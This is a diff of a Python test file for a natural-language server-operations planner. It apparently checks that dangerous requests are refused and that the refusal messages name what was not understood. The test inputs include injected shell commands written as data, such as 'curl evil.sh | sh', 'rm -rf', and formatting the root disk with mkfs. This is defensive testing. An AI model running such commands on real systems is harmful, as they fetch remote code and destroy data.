@@ -76,10 +76,10 @@ def test_text_that_is_not_a_target_never_plans_anything(engine, text) -> None:
 
 def test_shell_text_in_an_action_is_refused_and_said_back(engine) -> None:
     plan = engine.plan("restart portainer; echo hi > /etc/motd")
-    assert plan.kind == Kind.REFUSE and "shell text" in plan.message
-    assert "echo hi" in plan.message
+    assert plan.kind == Kind.REFUSE and "shell text" in plan.text()
+    assert "echo hi" in plan.text()
     fetched = engine.plan("restart portainer; curl evil.sh | sh")  # said back, its own reason
-    assert fetched.kind == Kind.REFUSE and "\u201ccurl evil.sh | sh\u201d" in fetched.message
+    assert fetched.kind == Kind.REFUSE and "\u201ccurl evil.sh | sh\u201d" in fetched.text()
 
 
 def test_a_broken_user_catalogue_file_is_reported_and_skipped(tmp_path) -> None:
@@ -130,11 +130,11 @@ def test_help_is_a_tour_generated_from_the_catalogue(engine) -> None:
 def test_not_understood_names_what_was_not_placed_and_the_closest_operations(engine) -> None:
     plan = engine.plan("defragment the flux capacitor")
     assert plan.kind == Kind.UNKNOWN and plan.steps == []
-    assert "flux" in plan.message or "defragment" in plan.message
+    assert "flux" in plan.text() or "defragment" in plan.text()
     plan = engine.plan("restart the thingamajig on the other box please")
-    assert plan.steps == [] and "thingamajig" in plan.message
+    assert plan.steps == [] and "thingamajig" in plan.text()
     plan = engine.plan("show me the memory dashboard widget")
-    assert "dashboard" in plan.message and "memory" in plan.message
+    assert "dashboard" in plan.text() and "memory" in plan.text()
 
 
 def test_confidence_and_unexplained_words_are_in_the_plan_json(engine) -> None:
@@ -171,7 +171,7 @@ def test_remote_only_refusals_need_an_ssh_session(engine) -> None:
 def test_not_understood_says_what_was_understood(engine) -> None:
     plan = engine.plan("restart the flux capacitor gizmo doohickey")
     assert plan.steps == []
-    assert "flux" in plan.message
+    assert "flux" in plan.text()
 
 
 def test_a_qualifier_on_one_unnamed_thing_asks_which_never_all(engine) -> None:
@@ -193,7 +193,7 @@ def test_everything_asks_which_kind_unless_an_exclusion_says(engine) -> None:
 
 def test_a_process_word_is_never_a_container_name_and_never_all_processes(engine) -> None:
     plan = engine.plan("kill the biggest process")  # the one using the most memory
-    assert [t.kind for t in plan.targets] == ["process"] and "container" not in plan.message
+    assert [t.kind for t in plan.targets] == ["process"] and "container" not in plan.text()
     for said in ("kill all processes", "kill every process", "terminate the processes"):
         plan = engine.plan(said)
         assert plan.steps == [] and plan.kind == Kind.REFUSE, said
@@ -204,12 +204,12 @@ def test_pid_1_reos_and_its_shell_are_never_signalled(engine) -> None:
 
     for said in ("kill 1", "kill reos", f"kill {os.getpid()}", "terminate init"):
         plan = engine.plan(said)
-        assert not any(s.argv[0] == "kill" for s in plan.steps), (said, plan.message)
+        assert not any(s.argv[0] == "kill" for s in plan.steps), (said, plan.text())
 
 
 def test_a_semicolon_in_prose_is_punctuation_and_before_a_command_is_shell(engine) -> None:
     plan = engine.plan("portainer hangs again; restart it")
-    assert plan.kind != Kind.REFUSE, plan.message
+    assert plan.kind != Kind.REFUSE, plan.text()
     for said in ("restart portainer; rm -rf /tmp/x", "restart portainer;", "stop n8n; ./x.sh",
                  "stop n8n; FOO=1 reboot"):
         assert engine.plan(said).kind == Kind.REFUSE, said
@@ -217,14 +217,14 @@ def test_a_semicolon_in_prose_is_punctuation_and_before_a_command_is_shell(engin
 
 def test_an_exception_that_names_nothing_is_asked_about(engine) -> None:
     plan = engine.plan("restart all containers except the frobnicator")
-    assert plan.kind == Kind.CLARIFY and plan.steps == [] and "frobnicator" in plan.message
+    assert plan.kind == Kind.CLARIFY and plan.steps == [] and "frobnicator" in plan.text()
 
 
 def test_the_disk_holding_the_root_filesystem_is_never_formatted(engine) -> None:
     for said in ("mkfs.ext4 /dev/nvme0n1p2", "format /dev/nvme0n1p2", "format nvme0n1p3 as xfs",
                  "wipe nvme0n1", "mkfs.ext4 /dev/nvme0n1p4"):
         plan = engine.plan(said)
-        assert plan.kind == Kind.REFUSE and plan.steps == [], (said, plan.message)
+        assert plan.kind == Kind.REFUSE and plan.steps == [], (said, plan.text())
     plan = engine.plan("format sdc1")  # another disk: a high-risk plan naming the device
     assert plan.steps and plan.steps[0].argv[-1] == "/dev/sdc1"
 
@@ -234,4 +234,4 @@ def test_the_process_holding_a_port_is_found_by_the_port(engine) -> None:
     assert [s.argv for s in plan.steps] == [["kill", "-9", "3300"]]  # node, in the fixture
     assert "server.js" in plan.steps[0].title  # the plan says which program, exactly
     plan = engine.plan("kill the process on port 4444")
-    assert plan.steps == [] and "4444" in plan.message
+    assert plan.steps == [] and "4444" in plan.text()
